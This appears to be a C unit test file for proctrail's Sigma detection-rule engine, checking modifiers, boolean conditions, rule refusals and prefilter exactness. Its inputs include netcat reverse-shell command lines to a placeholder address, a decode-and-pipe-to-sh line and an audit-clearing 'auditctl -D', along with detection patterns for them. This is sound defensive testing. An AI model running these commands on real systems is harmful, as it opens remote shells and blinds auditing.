/* Sigma semantics, one test per modifier and condition form, from the specification
 * (SigmaHQ/sigma-specification: "Sigma Rules Specification", "Sigma Modifiers Appendix"). */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "proctrail/sigma.h"

/* A rule with this detection body (indented 4), compiled alone. */
static struct pt_sigma_set *rule(const char *detection, char *reason)
{
	char yaml[8192], r[PT_SIGMA_REASON_MAX];
	struct pt_sigma_set *s;
	int ret;

	snprintf(yaml, sizeof(yaml),
		 "title: t\nid: 00000000-0000-0000-0000-000000000001\nlevel: high\n"
		 "logsource:\n    product: linux\n    category: process_creation\n"
		 "detection:\n%s", detection);
	assert_int_equal(pt_sigma_new(&s), 0);
	ret = pt_sigma_add(s, "t.yml", yaml, strlen(yaml), reason ? reason : r);
	if (ret) {
		pt_sigma_free(s);
		return NULL;
	}
	assert_int_equal(pt_sigma_compile(s), 0);
	return s;
}

static int count_fn(void *ctx, size_t i)
{
	(void)i;
	(*(int *)ctx)++;
	return 0;
}

/* Does the compiled single rule match an event with image and command line? */
static bool hit2(struct pt_sigma_set *s, const char *image, const char *cmd)
{
	struct pt_sigma_event ev = { 0 };
	int n = 0;

	if (image) {
		ev.f[PT_SF_IMAGE].ptr = image;
		ev.f[PT_SF_IMAGE].len = (uint32_t)strlen(image);
	}
	if (cmd) {
		ev.f[PT_SF_COMMAND_LINE].ptr = cmd;
		ev.f[PT_SF_COMMAND_LINE].len = (uint32_t)strlen(cmd);
	}
	assert_int_equal(pt_sigma_eval(s, &ev, count_fn, &n), 0);
	return n > 0;
}

static bool hit(struct pt_sigma_set *s, const char *cmd)
{
	return hit2(s, "/usr/bin/x", cmd);
}

#define SEL(body) "    selection:\n" body "    condition: selection\n"

static void test_equals_is_whole_value_case_insensitive(void **st)
{
	struct pt_sigma_set *s = rule(SEL("        CommandLine: 'auditctl -D'\n"), NULL);

	(void)st;
	assert_non_null(s);
	assert_true(hit(s, "auditctl -D"));
	assert_true(hit(s, "AUDITCTL -d"));
	assert_false(hit(s, "auditctl -D -k x"));
	assert_false(hit(s, "xauditctl -D"));
	pt_sigma_free(s);
}

static void test_contains(void **st)
{
	struct pt_sigma_set *s = rule(SEL("        CommandLine|contains: 'base64 -d'\n"), NULL);

	(void)st;
	assert_true(hit(s, "echo x | BASE64 -D | sh"));
	assert_false(hit(s, "base64 --decode"));
	pt_sigma_free(s);
}

static void test_startswith_endswith(void **st)
{
	struct pt_sigma_set *s = rule(SEL("        Image|endswith: '/crontab'\n"
					  "        CommandLine|startswith: 'crontab '\n"), NULL);

	(void)st;
	assert_true(hit2(s, "/usr/bin/crontab", "crontab -e"));
	assert_false(hit2(s, "/usr/bin/crontab2", "crontab -e"));
	assert_false(hit2(s, "/usr/bin/crontab", "sudo crontab -e"));
	assert_false(hit2(s, NULL, "crontab -e"));   /* absent field: no match */
	pt_sigma_free(s);
}

static void test_list_is_or_map_is_and(void **st)
{
	struct pt_sigma_set *s = rule(SEL("        Image|endswith:\n"
					  "            - '/nc'\n"
					  "            - '/ncat'\n"
					  "        CommandLine|contains: ' -e '\n"), NULL);

	(void)st;
	assert_true(hit2(s, "/bin/nc", "nc -e /bin/sh 1.2.3.4 4444"));
	assert_true(hit2(s, "/bin/ncat", "ncat -e /bin/sh 1.2.3.4 4444"));
	assert_false(hit2(s, "/bin/ncat", "ncat 1.2.3.4 4444"));
	assert_false(hit2(s, "/bin/socat", "socat -e x"));
	pt_sigma_free(s);
}

static void test_list_of_maps_is_or(void **st)
{
	struct pt_sigma_set *s = rule("    selection:\n"
				      "        - Image|endswith: '/a'\n"
				      "        - CommandLine|contains: 'bbb'\n"
				      "    condition: selection\n", NULL);

	(void)st;
	assert_true(hit2(s, "/x/a", "zz"));
	assert_true(hit2(s, "/x/z", "abbbc"));
	assert_false(hit2(s, "/x/z", "abbc"));
	pt_sigma_free(s);
}

static void test_all(void **st)
{
	struct pt_sigma_set *s = rule(SEL("        CommandLine|contains|all:\n"
					  "            - 'chmod'\n"
					  "            - '+x'\n"
					  "            - '/tmp/'\n"), NULL);

	(void)st;
	assert_true(hit(s, "chmod +x /tmp/a"));
	assert_true(hit(s, "/tmp/ chmod u+x"));
	assert_false(hit(s, "chmod +x /var/a"));
	pt_sigma_free(s);
}

static void test_wildcards_and_escapes(void **st)
{
	struct pt_sigma_set *s = rule(SEL("        CommandLine|contains: '/etc/*.conf'\n"), NULL);
	struct pt_sigma_set *q = rule(SEL("        CommandLine: 'a?c'\n"), NULL);
	struct pt_sigma_set *e = rule(SEL("        CommandLine: 'a\\*c'\n"), NULL);

	(void)st;
	assert_true(hit(s, "cat /etc/ld.so.conf x"));
	assert_false(hit(s, "cat /etc/ld.so.cfg"));
	assert_true(hit(q, "abc"));
	assert_false(hit(q, "abbc"));
	assert_true(hit(e, "a*c"));
	assert_false(hit(e, "abc"));
	pt_sigma_free(s);
	pt_sigma_free(q);
	pt_sigma_free(e);
}

static void test_cased(void **st)
{
	struct pt_sigma_set *s = rule(SEL("        CommandLine|contains|cased: 'ABC'\n"), NULL);

	(void)st;
	assert_true(hit(s, "xABCx"));
	assert_false(hit(s, "xabcx"));
	pt_sigma_free(s);
}

static void test_re_is_case_sensitive_with_flags(void **st)
{
	struct pt_sigma_set *s = rule(SEL("        CommandLine|re: '-(W|R)\\s?[0-9a-f]{2}'\n"), NULL);
	struct pt_sigma_set *i = rule(SEL("        CommandLine|re|i: '^abc$'\n"), NULL);
	struct pt_sigma_set *m = rule(SEL("        CommandLine|re|m: '^b$'\n"), NULL);
	struct pt_sigma_set *d = rule(SEL("        CommandLine|re|s: 'a.b'\n"), NULL);
	char reason[PT_SIGMA_REASON_MAX];

	(void)st;
	assert_true(hit(s, "pnscan -W 0a"));
	assert_false(hit(s, "pnscan -w 0a"));
	assert_true(hit(i, "ABC"));
	assert_true(hit(m, "a\nb\nc"));
	assert_false(hit(s, "a\nb"));
	assert_true(hit(d, "a\nb"));
	assert_null(rule(SEL("        CommandLine|re: '(unclosed'\n"), reason));
	assert_non_null(strstr(reason, "regular expression"));
	assert_null(rule(SEL("        CommandLine|i: 'x'\n"), reason));
	pt_sigma_free(s);
	pt_sigma_free(i);
	pt_sigma_free(m);
	pt_sigma_free(d);
}

static void test_base64(void **st)
{
	/* base64("whoami") = d2hvYW1p */
	struct pt_sigma_set *s = rule(SEL("        CommandLine|base64|contains: 'whoami'\n"), NULL);

	(void)st;
	assert_true(hit(s, "echo d2hvYW1p | base64 -d"));
	assert_false(hit(s, "echo D2HVYW1P"));     /* base64 is compared as it is */
	pt_sigma_free(s);
}

static void test_base64offset(void **st)
{
	/* The specification's example: /bin/bash at offsets 0,1,2 gives L2Jpbi9iYXNo,
	 * 9iaW4vYmFza, vYmluL2Jhc2 */
	struct pt_sigma_set *s = rule(SEL("        CommandLine|base64offset|contains: '/bin/bash'\n"),
				      NULL);

	(void)st;
	assert_true(hit(s, "x L2Jpbi9iYXNo"));
	assert_true(hit(s, "x 9iaW4vYmFza"));
	assert_true(hit(s, "x vYmluL2Jhc2"));
	assert_false(hit(s, "x /bin/bash"));
	pt_sigma_free(s);
}

static void test_windash(void **st)
{
	struct pt_sigma_set *s = rule(SEL("        CommandLine|windash|contains: ' -s '\n"), NULL);

	(void)st;
	assert_true(hit(s, "x -s y"));
	assert_true(hit(s, "x /s y"));
	assert_true(hit(s, "x \xe2\x80\x93s y"));   /* en dash */
	assert_false(hit(s, "x +s y"));
	pt_sigma_free(s);
}

static void test_cidr(void **st)
{
	struct pt_sigma_set *s = rule(SEL("        CommandLine|cidr: '10.1.0.0/16'\n"), NULL);
	char reason[PT_SIGMA_REASON_MAX];

	(void)st;
	assert_true(hit(s, "10.1.200.3"));
	assert_false(hit(s, "10.2.0.1"));
	assert_false(hit(s, "not an address"));
	assert_null(rule(SEL("        CommandLine|cidr: '10.1.0.0/33'\n"), reason));
	pt_sigma_free(s);
}

static void test_exists_and_null(void **st)
{
	struct pt_sigma_set *s = rule(SEL("        Image|exists: true\n"), NULL);
	struct pt_sigma_set *n = rule(SEL("        Image|exists: false\n"), NULL);
	struct pt_sigma_set *z = rule(SEL("        Image: null\n"), NULL);

	(void)st;
	assert_true(hit2(s, "/a", "x"));
	assert_false(hit2(s, NULL, "x"));
	assert_true(hit2(n, NULL, "x"));
	assert_false(hit2(n, "/a", "x"));
	assert_true(hit2(z, NULL, "x"));
	assert_true(hit2(z, "", "x"));
	assert_false(hit2(z, "/a", "x"));
	pt_sigma_free(s);
	pt_sigma_free(n);
	pt_sigma_free(z);
}

static void test_fieldref(void **st)
{
	struct pt_sigma_set *s = rule(SEL("        CommandLine|fieldref: Image\n"), NULL);

	(void)st;
	assert_true(hit2(s, "/bin/ls", "/BIN/LS"));
	assert_false(hit2(s, "/bin/ls", "/bin/ls -l"));
	pt_sigma_free(s);
}

#define TWO "    sel_a:\n        CommandLine|contains: 'aaa'\n" \
	    "    sel_b:\n        CommandLine|contains: 'bbb'\n" \
	    "    filter:\n        CommandLine|contains: 'fff'\n"

static void test_and_or_not(void **st)
{
	struct pt_sigma_set *a = rule(TWO "    condition: sel_a and sel_b\n", NULL);
	struct pt_sigma_set *o = rule(TWO "    condition: sel_a or sel_b\n", NULL);
	struct pt_sigma_set *n = rule(TWO "    condition: sel_a and not filter\n", NULL);

	(void)st;
	assert_true(hit(a, "aaa bbb"));
	assert_false(hit(a, "aaa"));
	assert_true(hit(o, "bbb"));
	assert_false(hit(o, "ccc"));
	assert_true(hit(n, "aaa"));
	assert_false(hit(n, "aaa fff"));
	pt_sigma_free(a);
	pt_sigma_free(o);
	pt_sigma_free(n);
}

static void test_precedence_and_parentheses(void **st)
{
	/* not > and > or: `sel_a or sel_b and filter` is sel_a or (sel_b and filter) */
	struct pt_sigma_set *p = rule(TWO "    condition: sel_a or sel_b and filter\n", NULL);
	struct pt_sigma_set *q = rule(TWO "    condition: (sel_a or sel_b) and filter\n", NULL);
	struct pt_sigma_set *r = rule(TWO "    condition: not (sel_a or sel_b)\n", NULL);
	char reason[PT_SIGMA_REASON_MAX];

	(void)st;
	assert_true(hit(p, "aaa"));
	assert_false(hit(q, "aaa"));
	assert_true(hit(q, "aaa fff"));
	assert_true(hit(r, "ccc"));
	assert_false(hit(r, "bbb"));
	assert_null(rule(TWO "    condition: (sel_a or sel_b\n", reason));
	assert_non_null(strstr(reason, "')'"));
	assert_null(rule(TWO "    condition: sel_a or\n", reason));
	pt_sigma_free(p);
	pt_sigma_free(q);
	pt_sigma_free(r);
}

static void test_one_of_all_of_pattern(void **st)
{
	struct pt_sigma_set *o = rule(TWO "    condition: 1 of sel_*\n", NULL);
	struct pt_sigma_set *a = rule(TWO "    condition: all of sel_*\n", NULL);
	char reason[PT_SIGMA_REASON_MAX];

	(void)st;
	assert_true(hit(o, "bbb"));
	assert_false(hit(o, "fff"));
	assert_true(hit(a, "aaa bbb"));
	assert_false(hit(a, "aaa fff"));
	assert_null(rule(TWO "    condition: 1 of nothing_*\n", reason));
	assert_non_null(strstr(reason, "no selection matches"));
	pt_sigma_free(o);
	pt_sigma_free(a);
}

static void test_one_of_all_of_them(void **st)
{
	struct pt_sigma_set *o = rule(TWO "    condition: 1 of them\n", NULL);
	struct pt_sigma_set *a = rule(TWO "    condition: all of them\n", NULL);

	(void)st;
	assert_true(hit(o, "fff"));
	assert_false(hit(a, "aaa bbb"));
	assert_true(hit(a, "aaa bbb fff"));
	pt_sigma_free(o);
	pt_sigma_free(a);
}

static void test_refusals_name_the_reason(void **st)
{
	char reason[PT_SIGMA_REASON_MAX];

	(void)st;
	assert_null(rule(SEL("        OriginalFileName: 'x'\n"), reason));
	assert_string_equal(reason, "field 'OriginalFileName' is not recorded by proctrail");
	assert_null(rule(SEL("        CommandLine|wide: 'x'\n"), reason));
	assert_non_null(strstr(reason, "UTF-16"));
	assert_null(rule(SEL("        CommandLine|gte: '1'\n"), reason));
	assert_string_equal(reason, "modifier 'gte' is not supported");
	assert_null(rule("    selection:\n        - 'keyword'\n    condition: selection\n", reason));
	assert_non_null(strstr(reason, "keyword"));
	assert_null(rule(SEL("        CommandLine: x\n") "    timeframe: 5m\n", reason));
	assert_null(rule("    selection:\n        CommandLine: x\n"
			 "    condition: selection | count() > 5\n", reason));
	assert_non_null(strstr(reason, "aggregation"));
	assert_null(rule("    selection:\n        CommandLine: x\n", reason));
	assert_string_equal(reason, "no condition");
	assert_null(rule("    selection: [unclosed\n", reason));
	assert_non_null(strstr(reason, "YAML"));
}

static void test_refused_rule_does_not_stop_others(void **st)
{
	const char *good = "title: g\nlogsource:\n  category: process_creation\n  product: linux\n"
			   "detection:\n  s:\n    CommandLine|contains: zz\n  condition: s\n";
	const char *bad = "title: b\nlogsource:\n  category: network_connection\n"
			  "detection:\n  s:\n    CommandLine|contains: yy\n  condition: s\n";
	char reason[PT_SIGMA_REASON_MAX];
	struct pt_sigma_set *s;

	(void)st;
	assert_int_equal(pt_sigma_new(&s), 0);
	assert_int_equal(pt_sigma_add(s, "g1", good, strlen(good), reason), 0);
	assert_int_equal(pt_sigma_add(s, "b", bad, strlen(bad), reason), -EINVAL);
	assert_string_equal(reason, "logsource category is not process_creation");
	assert_int_equal(pt_sigma_add(s, "g2", good, strlen(good), reason), 0);
	assert_int_equal(pt_sigma_compile(s), 0);
	assert_int_equal(pt_sigma_count(s), 2);
	assert_string_equal(pt_sigma_rule(s, 1)->file, "g2");
	assert_string_equal(pt_sigma_rule(s, 0)->level, "unknown");
	assert_false(hit(s, "yy"));
	assert_true(hit(s, "zz"));
	pt_sigma_free(s);
}

/* The prefilter must never hide a match: many rules, each found by its own literal, the
 * regex and negation rules evaluated always. */
static void test_prefilter_is_exact(void **st)
{
	char yaml[512], reason[PT_SIGMA_REASON_MAX], cmd[64];
	struct pt_sigma_set *s;
	int i, n;

	(void)st;
	assert_int_equal(pt_sigma_new(&s), 0);
	for (i = 0; i < 300; i++) {
		snprintf(yaml, sizeof(yaml),
			 "title: r%d\nlogsource:\n  category: process_creation\ndetection:\n"
			 "  s:\n    CommandLine|contains|all: ['tok%03d', 'common']\n"
			 "  condition: s\n", i, i);
		assert_int_equal(pt_sigma_add(s, "r", yaml, strlen(yaml), reason), 0);
	}
	snprintf(yaml, sizeof(yaml), "title: neg\nlogsource:\n  category: process_creation\n"
		 "detection:\n  s:\n    CommandLine|contains: 'zzz'\n  condition: not s\n");
	assert_int_equal(pt_sigma_add(s, "n", yaml, strlen(yaml), reason), 0);
	assert_int_equal(pt_sigma_compile(s), 0);
	assert_int_equal(pt_sigma_unfiltered(s), 1);
	for (i = 0; i < 300; i += 37) {
		struct pt_sigma_event ev = { 0 };

		snprintf(cmd, sizeof(cmd), "x TOK%03d common zzz", i);
		ev.f[PT_SF_COMMAND_LINE].ptr = cmd;
		ev.f[PT_SF_COMMAND_LINE].len = (uint32_t)strlen(cmd);
		n = 0;
		assert_int_equal(pt_sigma_eval(s, &ev, count_fn, &n), 0);
		assert_int_equal(n, 1);
	}
	assert_true(hit(s, "nothing"));   /* only the negation */
	pt_sigma_free(s);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_equals_is_whole_value_case_insensitive),
		cmocka_unit_test(test_contains),
		cmocka_unit_test(test_startswith_endswith),
		cmocka_unit_test(test_list_is_or_map_is_and),
		cmocka_unit_test(test_list_of_maps_is_or),
		cmocka_unit_test(test_all),
		cmocka_unit_test(test_wildcards_and_escapes),
		cmocka_unit_test(test_cased),
		cmocka_unit_test(test_re_is_case_sensitive_with_flags),
		cmocka_unit_test(test_base64),
		cmocka_unit_test(test_base64offset),
		cmocka_unit_test(test_windash),
		cmocka_unit_test(test_cidr),
		cmocka_unit_test(test_exists_and_null),
		cmocka_unit_test(test_fieldref),
		cmocka_unit_test(test_and_or_not),
		cmocka_unit_test(test_precedence_and_parentheses),
		cmocka_unit_test(test_one_of_all_of_pattern),
		cmocka_unit_test(test_one_of_all_of_them),
		cmocka_unit_test(test_refusals_name_the_reason),
		cmocka_unit_test(test_refused_rule_does_not_stop_others),
		cmocka_unit_test(test_prefilter_is_exact),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
